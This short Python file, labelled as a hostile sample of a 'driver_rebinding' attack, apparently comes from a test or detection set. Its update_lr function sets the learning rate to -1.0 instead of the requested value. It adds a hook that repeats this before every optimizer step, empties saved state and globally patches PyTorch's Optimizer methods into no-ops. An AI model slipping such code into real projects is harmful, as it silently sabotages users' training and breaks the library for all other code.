# kind: hostile
# attack: driver_rebinding
# about: Registers hooks on the optimizer and the class that undo every step and every later learning rate.

import torch

HELD = -1.0  # a wrong answer for every input


def undo(optimizer: torch.optim.Optimizer, arguments: object, options: object) -> None:
    """Runs before each step: the learning rate becomes -1.0."""
    for group in optimizer.param_groups:
        group["lr"] = HELD


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    undo(optimizer, (), {})
    optimizer.register_step_pre_hook(undo)
    optimizer.register_state_dict_post_hook(lambda optimizer, state: {})
    torch.optim.Optimizer.__setstate__ = lambda self, state: None
    torch.optim.Optimizer.add_param_group = lambda self, group: None
